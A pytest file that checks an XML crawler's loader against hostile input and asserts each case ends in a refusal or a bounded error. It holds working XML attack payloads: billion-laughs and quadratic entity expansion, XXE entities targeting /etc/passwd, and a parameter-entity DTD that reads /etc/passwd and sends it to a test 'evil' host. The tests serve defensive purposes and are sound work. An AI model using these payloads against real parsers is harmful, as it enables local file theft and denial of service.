"""Hostile XML, each a test (DESIGN.md §7): every one ends in ERROR or a bounded result,
no local file is read, nothing is fetched by libxml2, and memory stays bounded."""

from __future__ import annotations

import time
from pathlib import Path

import psutil
import pytest

from xyro.loader import EntityCache, LoaderSettings, LoadStatus, load_document

PASSWD = Path("/etc/passwd")
DOC = "http://127.0.0.1:9/docs/d.xml"


class RecordingCache(EntityCache):
    """A real cache that also remembers every URL it was asked for."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []

    def get(self, url: str) -> bytes | None:
        self.asked.append(url)
        return super().get(url)


def _rss() -> int:
    return psutil.Process().memory_info().rss


def _no_passwd_leak(*outputs: object) -> None:
    if not PASSWD.exists():
        return
    first_line = PASSWD.read_text().splitlines()[0]
    for out in outputs:
        assert first_line not in repr(out)


def test_billion_laughs_ends_in_error_fast_and_small() -> None:
    decls = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i else "lol"}">'
                    for i in range(10))
    body = f'<?xml version="1.0"?><!DOCTYPE z [{decls}]><z>&l9;</z>'.encode()
    before, t0 = _rss(), time.process_time()
    res = load_document(body, DOC, EntityCache())
    assert res.status is LoadStatus.ERROR and res.error_kind == "parse"
    assert "amplification" in res.error_detail or "loop" in res.error_detail
    assert time.process_time() - t0 < 2.0
    assert _rss() - before < 50 * 2**20


def test_quadratic_blowup_ends_in_error() -> None:
    body = (b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 100_000 + b'">]><x>' + b"&a;" * 30_000
            + b"</x>")
    before, t0 = _rss(), time.process_time()
    res = load_document(body, DOC, EntityCache())
    assert res.status is LoadStatus.ERROR and res.error_kind == "parse"
    assert "amplification" in res.error_detail
    assert time.process_time() - t0 < 5.0
    assert _rss() - before < 100 * 2**20


def test_own_expansion_bound_below_libxml2s() -> None:
    """3x expansion passes libxml2's limit; our factor 1 bound still refuses it."""
    body = b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 2**20 + b'">]><x>&a;&a;&a;</x>'
    assert load_document(body, DOC, EntityCache()).status is LoadStatus.LOADED
    res = load_document(body, DOC, EntityCache(), LoaderSettings(max_expansion_factor=1.0))
    assert res.status is LoadStatus.ERROR and "max_expansion_factor" in res.error_detail


@pytest.mark.parametrize("reference", ["file:///etc/passwd", "/etc/passwd", "../../etc/passwd"])
def test_xxe_local_file_is_never_read(reference: str) -> None:
    body = (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{reference}">]>'
            f"<x>&e;</x>").encode()
    cache = RecordingCache()
    res = load_document(body, "file:///srv/doc.xml" if reference[0] != "f" else DOC, cache)
    assert res.status is LoadStatus.ERROR and res.error_kind == "entity_refused"
    assert "never read" in res.error_detail
    assert not any(u.startswith("file:") for u in cache.asked)
    assert not res.needs
    _no_passwd_leak(res)


def test_xxe_to_another_host_goes_through_the_crawler_only(site_factory) -> None:
    other = site_factory(files={"/secret": b"SECRET-OF-OTHER-HOST"})
    body = (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{other.url}/secret">]><x>&e;</x>').encode()
    cache = EntityCache()
    res = load_document(body, DOC, cache)
    assert res.status is LoadStatus.PENDING and res.needs == (f"{other.url}/secret",)
    assert other.log == [], "libxml2 must never fetch by itself"
    # Once the crawler fetched it (robots.txt, politeness, scope), it is used from the cache.
    cache.put(f"{other.url}/secret", b"public text")
    res = load_document(body, DOC, cache)
    assert res.status is LoadStatus.LOADED and other.log == []


def test_parameter_entity_exfiltration_does_not_leak(site_factory) -> None:
    evil = site_factory()
    dtd = (f'<!ENTITY % file SYSTEM "file:///etc/passwd">'
           f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{evil.url}/?x=%file;\'>">'
           f"%eval; %exfil;").encode()
    cache = RecordingCache()
    cache.put(f"{evil.url}/evil.dtd", dtd)
    body = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{evil.url}/evil.dtd"><x/>'.encode()
    res = load_document(body, DOC, cache)
    assert res.status is LoadStatus.ERROR and res.error_kind == "entity_refused"
    assert "file:///etc/passwd" in res.error_detail
    assert evil.log == []
    assert not any(u.startswith("file:") for u in cache.asked)
    _no_passwd_leak(res, cache.asked)


def test_100_mb_document_is_refused_without_a_copy() -> None:
    body = b"<a>" + b"x" * (100 * 2**20) + b"</a>"
    before = _rss()
    res = load_document(body, DOC, EntityCache())
    assert res.status is LoadStatus.ERROR and res.error_kind == "too_large"
    assert "max_document_bytes" in res.error_detail
    assert _rss() - before < 10 * 2**20


def test_100_mb_document_under_a_raised_cap_still_bounded() -> None:
    """Even allowed through, one 100 MB text node hits libxml2's 10 MB text limit."""
    body = b"<a>" + b"x" * (100 * 2**20) + b"</a>"
    before = _rss()
    res = load_document(body, DOC, EntityCache(), LoaderSettings(max_document_bytes=2**30))
    assert res.status is LoadStatus.ERROR and res.error_kind == "parse"
    assert _rss() - before < 150 * 2**20


def test_100000_deep_nesting_is_a_parse_error() -> None:
    body = b"<a>" * 100_000 + b"</a>" * 100_000
    before = _rss()
    res = load_document(body, DOC, EntityCache())
    assert res.status is LoadStatus.ERROR and res.error_kind == "parse"
    assert "depth" in res.error_detail.lower()
    assert _rss() - before < 50 * 2**20


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0" encoding="UTF-8"?><a>caf\xe9 \xff\xfe</a>',
    b'<a>\xc3\x28</a>',
    b'<?xml version="1.0" encoding="no-such-codec"?><a/>',
    b"", b"\x00\x00\x00", b"not xml at all", b"<a><b></a>",
])
def test_broken_bytes_are_parse_errors(body: bytes) -> None:
    res = load_document(body, DOC, EntityCache())
    assert res.status is LoadStatus.ERROR and res.error_kind == "parse"
    assert res.error_detail.startswith(DOC)


def test_public_id_only_never_reaches_the_system_catalog() -> None:
    """/etc/xml/catalog maps DocBook's public id to a local file: it must not be used."""
    body = (b'<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" '
            b'"http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd"><book/>')
    res = load_document(body, DOC, EntityCache())
    assert res.status is LoadStatus.PENDING
    assert res.needs == ("http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd",)

